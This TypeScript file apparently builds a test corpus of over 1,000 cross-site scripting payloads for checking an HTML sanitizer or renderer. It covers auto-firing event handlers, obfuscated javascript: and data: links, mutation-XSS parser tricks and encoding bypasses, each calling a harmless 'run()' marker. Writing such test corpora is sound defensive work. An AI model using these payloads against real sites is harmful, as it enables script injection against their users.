// Rich texts that run a script in a page that shows them without care. `run()` notes that it ran.

const handlers = ['onerror', 'onload', 'onfocus', 'onanimationstart', 'ontoggle', 'onbegin', 'onpageshow'];

/** Elements that call a handler without a click. @param on an attribute with a handler, such as `onerror=run()` */
const triggers: ((on: string) => string)[] = [
  (on) => `<img src=x: ${on}>`,
  (on) => `<svg ${on}><animate attributeName=x dur=1s ${on} /></svg>`,
  (on) => `<body ${on}>`,
  (on) => `<video src=x: ${on}><source src=x: ${on}></video>`,
  (on) => `<input autofocus ${on}>`,
  (on) => `<p tabindex=0 autofocus ${on}>x</p>`,
  (on) => `<details open ${on}><summary>x</summary></details>`,
  (on) => `<link rel=stylesheet href="data:text/css,a{}" ${on}>`,
  (on) => `<iframe ${on}></iframe>`,
  (on) => `<object data=x: ${on}></object>`,
  (on) => `<style>@keyframes k{}p{animation:k 1s}</style><p ${on}>x</p>`,
  (on) => `<marquee ${on} loop=1 width=0>x</marquee>`,
];

/** Spellings of an attribute with a handler. */
const spellings: ((name: string) => string)[] = [
  (name) => `${name}=run()`,
  (name) => `${name.toUpperCase()}="run()"`,
  (name) => `/${name}='run&lpar;&rpar;'`,
  (name) => `a="'"${name}=&#114;un()`,
  (name) => `\f${name}\n=\trun()`,
];

const handled = handlers.flatMap((name) =>
  triggers.flatMap((trigger) => spellings.map((format) => trigger(format(name)))),
);

/** Spellings of a link that runs a script when it is followed. */
const links = [
  'javascript:run()',
  'JaVaScRiPt:run()',
  '\u0001javascript:run()',
  ' \t\njavascript:run()',
  'java\tscript:run()',
  'java&NewLine;script&colon;run()',
  '&#x6A&#x61&#x76&#x61script:run()',
  'javascript://example.com/%0arun()',
  'javascript:/*https://*/run()',
  'data:text/html,<script>opener.run()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucnVuKCk8L3NjcmlwdD4=',
  'vbscript:run()',
];
const linked = links.flatMap((link) => [
  `<a href="${link}">x</a>`,
  `<a HREF='${link}' target=_self>x</a>`,
  `<svg><a xlink:href="${link}"><text y=9>x</text></a></svg>`,
  `<math href="${link}"><mtext>x</mtext></math>`,
  `<form action="${link}"><button>x</button></form>`,
  `<form><button formaction="${link}">x</button></form>`,
  `<iframe src="${link}"></iframe>`,
  `<object data="${link}"></object>`,
  `<embed src="${link}">`,
  `<base href="${link}"><a href=x>x</a>`,
  `<meta http-equiv=refresh content="0;url=${link}">`,
]);

/** Texts that change their meaning when they are read, written and read again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=run()&gt;">',
  '<svg></p><style><a id="</style><img src=x: onerror=run()>">',
  '<noscript><p title="</noscript><img src=x: onerror=run()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=run()>',
  '<math><annotation-xml encoding="text/html"><style></math><img src=x: onerror=run()></style>',
  '<svg><desc><style></desc></svg><img src=x: onerror=run()></style>',
  '<svg><title><style><![CDATA[</style><img src=x: onerror=run()>]]>',
  '<math><mi><b><svg><style><b title="</style><img src=x: onerror=run()>">',
  '<textarea><p title="</textarea><img src=x: onerror=run()>">',
  '<title><p title="</title><img src=x: onerror=run()>">',
  '<xmp><p title="</xmp><img src=x: onerror=run()>">',
  '<iframe><p title="</iframe><img src=x: onerror=run()>">',
  '<noembed><p title="</noembed><img src=x: onerror=run()>">',
  '<template><img src=x: onerror=run()></template><script>run()</script>',
  '<select><style></select><img src=x: onerror=run()></style>',
  '<table><td><svg><foreignObject><img src=x: onerror=run()>',
  '<!--><img src=x: onerror=run()>-->',
  '<!--a--!><img src=x: onerror=run()>-->',
  '<![CDATA[><img src=x: onerror=run()>]]>',
  '<?a ?><img src=x: onerror=run()>',
  '</ <img src=x: onerror=run()>>',
  '<scr<script>ipt>run()</scr</script>ipt>',
  '<script\f/x>run()</script >',
  '<svg><script>run&lpar;)</script></svg>',
  '<svg><script href="data:,run()" /></svg>',
  '<script src="data:,run()"></script>',
  '<div><p title="<svg onload=run()>"><svg><style></p><a title="</style></svg><svg onload=run()>">',
  '<img alt=`x src=x: onerror=run()>',
  '<img src="x:"onerror=run()//',
  '<a<img src=x: onerror=run()>',
  '<p><img src=x: onerror=run()',
  '<p title="<img src=x: onerror=run()>',
  '<plaintext></plaintext><img src=x: onerror=run()>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=run() />#x" /></svg>',
  '<svg><set attributeName=href to=javascript:run() /></svg><svg><a><animate attributeName=href values=javascript:run() /><text>x</text></a></svg>',
  '<iframe srcdoc="<script>parent.run()</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x: onerror=parent.run()&gt;"></iframe>',
  '<object type=text/html data="data:text/html,<script>parent.run()</script>"></object>',
  '<isindex type=image src=x: onerror=run()>',
  '<image src=x: onerror=run()>',
];

/** Media, styles and templates that load or run something. */
const loading = [
  '<img srcset="x: 1x" onerror=run()>',
  '<img srcset="x:, javascript:run() 2x" src=x: onerror=run()>',
  '<picture><source srcset=x:><img onerror=run() src=x:></picture>',
  '<picture><source srcset="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.run()%22/>"><img></picture>',
  '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22parent.run()%22/>">',
  '<video poster=javascript:run() src=x: onerror=run()></video>',
  '<audio src=x: onerror=run()></audio>',
  '<video><source onerror=run() src=x:></video>',
  '<video controls autoplay><track default src=x: onerror=run()></video>',
  '<p style="animation:k" onanimationstart=run()>x</p><style>@keyframes k{}</style>',
  '<p style="background:url(javascript:run())">x</p>',
  '<p style="width:expression(run())">x</p>',
  '<p style="color:red\\;}</style><img src=x: onerror=run()>">x</p>',
  '<p style="transition:opacity 1ms" ontransitionend=run() onmouseover=run()>x</p>',
  '<style>@import"data:text/css,*{}";</style><style onload=run()></style>',
  '<link rel=stylesheet href="data:text/css,*{}" onload=run()>',
  '<template shadowrootmode=open><img src=x: onerror=run()></template>',
  '<div><template shadowrootmode=open><script>run()</script></template></div>',
  '<template><template><img src=x: onerror=run()></template></template><img src=x: onerror=run()>',
  '<p title="{{constructor.constructor(\'run()\')()}}" onfocus=run() tabindex=0 autofocus>x</p>',
  '<form id=body><input name=innerHTML></form><img name=body src=x: onerror=run()>',
  '+ADw-script+AD4-run()+ADw-/script+AD4-<img src=x: onerror=run()>',
  '\uff1cscript\uff1erun()\uff1c/script\uff1e<img src=x: onerror=run()>',
  '\u00ad<img src=x: onerror=run()>\u2028<svg onload=run()>',
  '<img\u00a0src=x: onerror=run()><img src=x: onerror=run()>',
];

/** Puts a text into places where a parser or a filter may read it in another way. */
const wrappers: ((html: string) => string)[] = [
  (html) => html,
  (html) => `<table><tr>${html}</tr></table>`,
  (html) => `<ul><li><b><i>${html}`,
  (html) => `</div></body>${html}`,
  (html) => `<p>a\0b</p>${html.replaceAll('<', '\0<')}${html}`,
  (html) => `${'<div>'.repeat(60)}${html}`,
];

/** More than 1,000 texts. */
export const hostileTexts: readonly string[] = [
  ...wrappers.flatMap((wrap) => [...mutating, ...linked, ...loading].map(wrap)),
  ...handled,
];
